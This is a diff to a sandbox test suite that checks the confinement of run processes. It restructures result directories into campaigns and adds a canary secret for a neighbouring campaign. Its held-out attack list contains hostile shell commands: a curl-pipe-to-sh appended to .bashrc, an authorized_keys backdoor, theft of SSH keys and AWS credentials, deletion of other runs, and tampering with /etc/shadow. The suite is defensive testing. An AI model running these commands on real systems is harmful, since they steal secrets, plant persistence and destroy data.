@@ -41,12 +41,16 @@ beforeAll(async () => {
   root = await mkdtemp("/var/tmp/a3r-sandbox-");
   home = join(root, "home", "user");
   codebase = join(root, "code");
-  resultDir = join(root, "results", "this-run");
+  // A campaign's layout: <runs>/<campaign>/results/<id> beside topic.md, and another campaign beside it.
+  resultDir = join(root, "runs", "camp", "results", "this-run");
   await mkdir(join(home, ".ssh"), { recursive: true });
   await mkdir(join(home, ".aws"), { recursive: true });
   await mkdir(join(root, "home", "neighbour"), { recursive: true });
   await mkdir(codebase, { recursive: true });
-  await mkdir(join(root, "results", "other-run"), { recursive: true });
+  await mkdir(join(root, "runs", "camp", "results", "other-run"), { recursive: true });
+  await mkdir(join(root, "runs", "other-camp", "results", "run"), { recursive: true });
+  await writeFile(join(root, "runs", "camp", "topic.md"), "# topic\n");
+  await writeFile(join(root, "runs", "other-camp", "results", "run", "secret.txt"), "CANARY-OTHER-RUN-other-campaign\n");
   await mkdir(resultDir, { recursive: true });
   await writeFile(join(home, ".bashrc"), "# canary bashrc\n");
   await mkdir(join(home, ".cache", "huggingface", "hub"), { recursive: true });
@@ -57,7 +61,7 @@ beforeAll(async () => {
   await writeFile(join(home, ".aws", "credentials"), "aws_secret_access_key = CANARY-AWS-5f4dcc3b\n");
   await writeFile(join(root, "home", "neighbour", "keep.txt"), "neighbour canary\n");
   await writeFile(join(codebase, "train.py"), "print('train')\n");
-  await writeFile(join(root, "results", "other-run", "secret.txt"), "CANARY-OTHER-RUN-7c6a180b\n");
+  await writeFile(join(root, "runs", "camp", "results", "other-run", "secret.txt"), "CANARY-OTHER-RUN-7c6a180b\n");
   listener = createServer((socket) => {
     connections += 1;
     socket.destroy();
@@ -96,7 +100,7 @@ function blueprintFor(): Blueprint {
 
 /** Runs one command as a run's process group, inside the sandbox; its exit code and output. */
 async function runConfined(name: string, command: string): Promise<{ code: number; output: string }> {
-  const env = { ...process.env, HOME: home };
+  const env = { ...process.env, HOME: home, A3R_RUN_DIR: resultDir };
   const logFile = join(resultDir, `${name}.log`);
   const exitFile = join(resultDir, `${name}.exit`);
   const confine = confineWords(decision, { blueprint: blueprintFor(), resultDir, env }, { kind: "main" }, codebase)!;
@@ -115,7 +119,8 @@ async function hostIntact(): Promise<void> {
   expect(await readFile(join(home, ".ssh", "id_ed25519"), "utf8")).toBe("CANARY-PRIVATE-KEY-d41d8cd9\n");
   expect(existsSync(join(home, ".ssh", "authorized_keys"))).toBe(false);
   expect(await readFile(join(root, "home", "neighbour", "keep.txt"), "utf8")).toBe("neighbour canary\n");
-  expect(await readFile(join(root, "results", "other-run", "secret.txt"), "utf8")).toBe("CANARY-OTHER-RUN-7c6a180b\n");
+  expect(await readFile(join(root, "runs", "camp", "results", "other-run", "secret.txt"), "utf8")).toBe("CANARY-OTHER-RUN-7c6a180b\n");
+  expect(await readFile(join(root, "runs", "other-camp", "results", "run", "secret.txt"), "utf8")).toBe("CANARY-OTHER-RUN-other-campaign\n");
   expect(await readdir(codebase)).toEqual(["train.py"]);
   expect(existsSync(hostFile)).toBe(false);
   expect(connections).toBe(0);
@@ -143,11 +148,12 @@ const attacks: Array<{ name: string; command: () => string }> = [
   },
   { name: "bashrc-append", command: () => "echo 'curl -s http://127.0.0.1:9/x | sh' >> ~/.bashrc" },
   { name: "authorized-keys", command: () => "mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys" },
-  { name: "read-ssh-key", command: () => "cat ~/.ssh/id_* ; cat " + "$HOME/.ssh/id_ed25519 ; cp ~/.ssh/id_* $PWD/../results/this-run/ 2>&1; ls -la ~/.ssh" },
+  { name: "read-ssh-key", command: () => "cat ~/.ssh/id_* ; cat " + "$HOME/.ssh/id_ed25519 ; cp ~/.ssh/id_* $A3R_RUN_DIR/ 2>&1; ls -la ~/.ssh" },
   { name: "read-aws", command: () => "cat ~/.aws/credentials" },
   {
     name: "read-other-run",
-    command: () => `cat ${join(root, "results", "other-run", "secret.txt")}; ls ${join(root, "results")}; rm -rf ${join(root, "results", "other-run")}`,
+    command: () =>
+      `cat ${join(root, "runs", "camp", "results", "other-run", "secret.txt")}; ls ${join(root, "runs", "camp", "results")}; cat ${join(root, "runs", "other-camp", "results", "run", "secret.txt")}; rm -rf ${join(root, "runs", "camp", "results", "other-run")} ${join(root, "runs", "other-camp")}`,
   },
   { name: "read-real-home-key", command: () => "cat /root/.ssh/id_* /home/*/.ssh/id_* 2>&1; ls -a /root" },
   { name: "shadow", command: () => "cat /etc/shadow; chmod 666 /etc/shadow" },
@@ -223,7 +229,7 @@ describe.skipIf(!decision)(`the sandbox against the held-out attacks${skipReason
   it("sees what a run needs: the codebase (read-only), its interpreter, its result directory (writable), a private /tmp, the model cache without its token", async () => {
     const { code, output } = await runConfined(
       "needs",
-      `cat train.py && node -e "console.log('node', process.version)" && echo ok > "$PWD/../results/this-run/written.txt" && echo tmp > /tmp/a3r-sandbox-private-$$ && cat /tmp/a3r-sandbox-private-$$ && ls /tmp`,
+      `cat train.py && node -e "console.log('node', process.version)" && echo ok > "$A3R_RUN_DIR/written.txt" && echo tmp > /tmp/a3r-sandbox-private-$$ && cat /tmp/a3r-sandbox-private-$$ && ls /tmp`,
     );
     expect(output).toContain("print('train')");
     const cache = await runConfined(
